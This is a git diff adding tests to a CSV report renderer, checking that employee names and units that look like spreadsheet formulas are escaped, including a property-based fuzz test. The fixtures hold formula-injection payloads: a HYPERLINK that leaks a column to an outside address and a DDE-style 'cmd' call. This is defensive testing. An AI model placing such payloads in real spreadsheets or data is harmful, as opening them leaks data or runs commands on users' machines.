@@ -1,8 +1,10 @@
+import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { renderCsv } from '../../functions/core/render/csv';
 import { esc, renderWall } from '../../functions/core/render/html';
 import { localStamp, longDate } from '../../functions/core/render/labels';
+import { safeCell } from '../../functions/core/render/spreadsheet-cell';
 import type { Report } from '../../functions/core/report';
 
 const report: Report = {
@@ -79,6 +81,67 @@ describe('renderCsv', () => {
       expect(byId.e3?.[2]).toBe('\'=HYPERLINK("http://evil")');
     },
   );
+
+  it('escapes a formula that spans lines (papaparse’s escapeFormulae lets it through)', () => {
+    // From issue 12.1: a roster name that Excel would run as a HYPERLINK leaking column C.
+    const name = '=HYPERLINK("http://x/?d="&C2,\n"Rina")';
+    const unit = "+cmd|\n/C calc'!A0";
+    const evil: Report = {
+      ...report,
+      absent: [{ employeeId: '@e7', name, unit }],
+      late: [],
+      excused: [],
+      flagged: [],
+    };
+    for (const lang of ['id', 'en'] as const) {
+      const rows = Papa.parse<string[]>(renderCsv(evil, lang).slice(1), {
+        skipEmptyLines: true,
+      }).data;
+      expect(rows[1]?.slice(0, 3)).toEqual([`'${unit}`, "'@e7", `'${name}`]);
+    }
+  });
+
+  it('lets no cell start like a formula, whatever the roster holds, and loses nothing', () => {
+    const danger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ';', ',', "'", ' ');
+    // Text that often starts like a formula and holds separators, quotes and line breaks.
+    const text = fc
+      .tuple(
+        fc.option(danger, { nil: '' }),
+        fc.array(fc.oneof(danger, fc.string()), { maxLength: 6 }),
+      )
+      .map(([first, rest]) => first + rest.join(''));
+    const person = fc.record({ employeeId: text, name: text, unit: text });
+    fc.assert(
+      fc.property(
+        fc.array(person, { minLength: 1, maxLength: 8 }),
+        fc.array(person, { maxLength: 4 }),
+        fc.constantFrom('id' as const, 'en' as const),
+        (absent, excused, lang) => {
+          const r: Report = {
+            ...report,
+            absent,
+            late: [],
+            excused: excused.map((p) => ({ ...p, kind: 'sick' as const })),
+            flagged: [],
+          };
+          const parsed = Papa.parse<string[]>(renderCsv(r, lang).slice(1), {
+            delimiter: lang === 'id' ? ';' : ',',
+            newline: '\r\n',
+          });
+          expect(parsed.errors).toEqual([]);
+          const cells = parsed.data.slice(1, 1 + absent.length + excused.length);
+          for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+          // Each cell reads back as what was written, behind a ' when it looked like a formula.
+          const back = new Set(cells.map((c) => JSON.stringify(c.slice(0, 3))));
+          for (const p of [...absent, ...excused]) {
+            const want = [p.unit, p.employeeId, p.name].map(safeCell);
+            expect(back.has(JSON.stringify(want))).toBe(true);
+          }
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
 
   it('labels rows in the language asked for', () => {
     expect(renderCsv(report, 'id')).toContain('Tidak hadir');
